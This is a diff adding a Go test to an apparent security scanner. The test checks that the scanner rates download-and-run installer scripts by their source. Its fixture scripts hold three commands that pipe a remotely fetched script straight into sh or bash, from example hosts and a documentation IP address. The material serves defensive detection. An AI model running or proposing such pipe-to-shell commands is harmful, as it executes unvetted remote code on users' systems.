@@ -138,3 +138,28 @@ func TestPhase(t *testing.T) {
 		t.Errorf("findings: %v", analyzertest.Rules(rep))
 	}
 }
+
+// An installer fetched over HTTPS from a named host (mise, rustup, the
+// golangci-lint script in developer scripts) is the host owner's risk:
+// medium. Plain HTTP or a bare address: high.
+func TestDownloadSeverityBySource(t *testing.T) {
+	r := scan(t, map[string]string{
+		"scripts/setup-host.sh": "#!/bin/sh\ncurl -fsSL https://mise.example.com | sh\n",
+		"scripts/plain.sh":      "#!/bin/sh\ncurl -fsSL http://get.example.com/i.sh | sh\n",
+		"scripts/ip.sh":         "#!/bin/sh\nwget -qO- https://192.0.2.7/i.sh | bash\n",
+	})
+	want := map[string]finding.Severity{"setup-host.sh": finding.Medium, "plain.sh": finding.High, "ip.sh": finding.High}
+	for _, f := range r.Findings {
+		for name, sev := range want {
+			if strings.HasSuffix(f.Location.Path, "/"+name) {
+				if f.Severity != sev {
+					t.Errorf("%s: %s, want %s (%s)", name, f.Severity, sev, f.Message)
+				}
+				delete(want, name)
+			}
+		}
+	}
+	if len(want) > 0 {
+		t.Errorf("not reported: %v", want)
+	}
+}
